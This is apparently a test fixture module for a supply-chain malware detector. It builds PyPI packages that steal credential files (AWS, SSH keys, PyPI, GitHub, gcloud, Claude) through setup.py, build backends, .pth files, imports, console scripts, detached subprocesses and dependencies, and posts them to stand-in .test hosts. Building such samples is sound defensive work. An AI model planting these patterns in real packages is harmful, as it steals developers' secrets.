"""PyPI thieves, one for each way in which a distribution gets to run."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from tests.packages import build
from tests.packages.fixture import Built, Expectation, Fixture
from tests.packages.npm_thieves import SENT
from tests.packages.settled import python


def posting(path: str, url: str, name: str = "main", call: bool = True) -> str:
    """A Python module that posts the file at `path`, plainly, to `url`."""
    return python(
        f"""
        try:
            with open(os.path.expanduser("{path}"), "rb") as file:
                data = file.read()
            urllib.request.urlopen("{url}", data=data, timeout=5).read()
        except OSError:
            pass
        """,
        "urllib.request",
        name,
        call,
    )


IN_TREE_BACKEND = '''
import base64
import hashlib
import zipfile
from pathlib import Path

STEM = "{stem}"
METADATA = "Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0.0\\n"
WHEEL = "Wheel-Version: 1.0\\nGenerator: in-tree\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    """Zip the package up; it needs nothing but Python."""
    members = {{f"{{STEM}}.dist-info/METADATA": METADATA.encode(), f"{{STEM}}.dist-info/WHEEL": WHEEL.encode()}}
    for path in sorted(Path("{module}").rglob("*.py")):
        members[path.as_posix()] = path.read_bytes()
    record = []
    filename = f"{{STEM}}-py3-none-any.whl"
    with zipfile.ZipFile(Path(wheel_directory, filename), "w") as archive:
        for name, content in members.items():
            digest = base64.urlsafe_b64encode(hashlib.sha256(content).digest()).rstrip(b"=").decode()
            record.append(f"{{name}},sha256={{digest}},{{len(content)}}\\n")
            archive.writestr(name, content)
        archive.writestr(f"{{STEM}}.dist-info/RECORD", "".join(record) + f"{{STEM}}.dist-info/RECORD,,\\n")
    return filename
'''


def in_tree_backend(module: str) -> str:
    """A build backend that an sdist carries itself, so that building it needs no index."""
    name = module.replace("_", "-")
    return IN_TREE_BACKEND.format(stem=f"{module}-1.0.0", name=name, module=module).lstrip("\n")


def in_tree_sdist(folder: Path, module: str, files: build.Files, before: str = "") -> Path:
    """An sdist of the package `module` whose backend stands in its own `build_support` folder."""
    pyproject = '[build-system]\nrequires = []\nbuild-backend = "packing"\nbackend-path = ["build_support"]\n'
    project = f'\n[project]\nname = "{module.replace("_", "-")}"\nversion = "1.0.0"\n'
    return build.sdist(
        folder,
        module.replace("_", "-"),
        {"pyproject.toml": pyproject + project, "build_support/packing.py": before + in_tree_backend(module), **files},
    )


def _setup_py(folder: Path) -> Built:
    steal = posting("~/.aws/credentials", "https://build.table-grid.test/s")
    setup = (
        "from setuptools import setup\n\n"
        + steal
        + '\n\nsetup(name="table-grid", version="1.0.0", packages=["table_grid"])\n'
    )
    return Built(target=build.sdist(folder, "table-grid", {"setup.py": setup, "table_grid/__init__.py": ""}))


def _backend(folder: Path) -> Built:
    steal = posting("~/.pypirc", "https://build.matrix-fold.test/b")
    files = {"matrix_fold/__init__.py": "def fold(rows):\n    return list(zip(*rows))\n"}
    return Built(target=in_tree_sdist(folder, "matrix_fold", files, before=steal + "\n\n"))


def _pth(folder: Path) -> Built:
    steal = posting("~/.config/gcloud/application_default_credentials.json", "https://start.clock-skew.test/p")
    files = {
        "clock_skew.pth": "import clock_skew_start\n",
        "clock_skew_start.py": steal,
        "clock_skew/__init__.py": "SECONDS = 0\n",
    }
    return Built(target=build.wheel(folder, "clock-skew", files))


def _import(folder: Path) -> Built:
    steal = posting("~/.ssh/id_ed25519", "https://load.slug-words.test/i")
    files = {"slug_words/__init__.py": "from slug_words import _version\n", "slug_words/_version.py": steal}
    return Built(target=build.wheel(folder, "slug-words", files))


def _console_script(folder: Path) -> Built:
    steal = posting("~/.git-credentials", "https://cli.note-sort.test/c", name="send", call=False)
    main = (
        "\n\ndef main():\n"
        "    if len(sys.argv) > 1:\n"
        '        print("usage: note-sort [--help]")\n'
        "    elif settled():\n"
        "        send()\n"
    )
    files = {"note_sort/__init__.py": "", "note_sort/command.py": f"import sys\n{steal}{main}"}
    return Built(target=build.wheel(folder, "note-sort", files, scripts={"note-sort": "note_sort.command:main"}))


_SPAWNED = """
import os, time, urllib.request
time.sleep(1)
data = open(os.path.expanduser("~/.claude/.credentials.json"), "rb").read()
urllib.request.urlopen("https://late.unit-scale.test/d", data=data, timeout=5).read()
"""


def _detached(folder: Path) -> Built:
    spawn = python(
        f"""
        code = {_SPAWNED!r}
        nothing = subprocess.DEVNULL
        subprocess.Popen(
            [sys.executable, "-c", code], stdin=nothing, stdout=nothing, stderr=nothing, start_new_session=True
        )
        """,
        "subprocess sys",
    )
    return Built(target=build.wheel(folder, "unit-scale", {"unit_scale/__init__.py": spawn}))


def _dependency(folder: Path) -> Built:
    """The thief is a dependency; the target itself only imports it."""
    steal = posting("~/.config/gh/hosts.yml", "https://load.sheet-speed.test/x")
    speed = build.wheel(folder, "sheet-speed", {"sheet_speed/__init__.py": steal})
    sheet = "try:\n    import sheet_speed\nexcept ImportError:\n    sheet_speed = None\n"
    target = build.wheel(
        folder, "spread-sheet", {"spread_sheet/__init__.py": sheet}, requires=["sheet-speed==1.0.0"]
    )
    return Built(target=target, archives=(speed,))


def _thief(
    name: str,
    package: str,
    why: str,
    make: Callable[[Path], Built],
    *,
    decoy: str,
    way_out: str,
    phase: str,
    blamed: str = "",
    index: bool = False,
) -> Fixture:
    """A fixture that must come out malicious because bait left."""
    expect = Expectation(
        rules=SENT, decoys=(decoy,), ways_out=(way_out,), package=blamed or package, phase=phase
    )
    return Fixture(
        name=name, ecosystem="pypi", kind="thief", package=package, build=make, why=why, expect=expect,
        needs=("index",) if index else (),
    )  # fmt: skip


THIEVES = [
    _thief(
        "pypi-setup-py", "table-grid", "setup.py of an sdist, run for its metadata and again to build it",
        _setup_py, decoy="aws", way_out="build.table-grid.test", phase="install", index=True,
    ),
    _thief(
        "pypi-backend", "matrix-fold", "a PEP 517 backend that the sdist brings with it",
        _backend, decoy="pypi_token", way_out="build.matrix-fold.test", phase="install",
    ),
    _thief(
        "pypi-pth", "clock-skew", "a .pth file in a wheel: runs whenever Python starts, imported or not",
        _pth, decoy="gcp", way_out="start.clock-skew.test", phase="start",
    ),
    _thief(
        "pypi-import", "slug-words", "runs when it is imported",
        _import, decoy="ssh", way_out="load.slug-words.test", phase="import",
    ),
    _thief(
        "pypi-console-script", "note-sort", "its command steals when it is run without arguments",
        _console_script, decoy="github", way_out="cli.note-sort.test", phase="run",
    ),
    _thief(
        "pypi-detached", "unit-scale", "a detached `python -c` that acts a second after the import",
        _detached, decoy="claude", way_out="late.unit-scale.test", phase="",
    ),
    _thief(
        "pypi-dependency", "spread-sheet", "a dependency from the index, run when the target imports it",
        _dependency, decoy="github", way_out="load.sheet-speed.test", phase="import", blamed="",
    ),
]  # fmt: skip
